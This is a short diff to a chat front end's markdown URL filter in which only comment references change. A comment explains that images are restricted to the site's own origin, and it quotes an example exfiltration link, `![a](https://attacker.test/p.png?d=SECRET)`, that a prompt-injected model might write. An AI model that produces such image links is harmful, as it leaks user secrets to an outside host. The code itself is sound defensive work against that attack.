@@ -4,7 +4,7 @@ import { defaultUrlTransform, type UrlTransform } from 'react-markdown';
 const DATA_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp|avif)[;,]/i;
 
 /**
- * DECISIONS "Security controls": a message shows images only from our own origin (a relative address, or this
+ * rules.md "Security controls": a message shows images only from our own origin (a relative address, or this
  * site's own) or written inline as `data:`, so text the model was tricked into writing cannot leak anything
  * through an image address (`![a](https://attacker.test/p.png?d=SECRET)` would load with no click).
  */
@@ -20,7 +20,7 @@ export function isOwnImageSource(src: string | undefined, base: string = window.
 }
 
 /**
- * SPEC 2: markdown link and image addresses keep only http, https, irc, ircs, mailto and xmpp, or relative ones;
+ * product.md §2: markdown link and image addresses keep only http, https, irc, ircs, mailto and xmpp, or relative ones;
  * others are blanked (react-markdown's own rule). Images may also be inline `data:` rasters.
  */
 export const markdownUrlTransform: UrlTransform = (url, key, node) => {
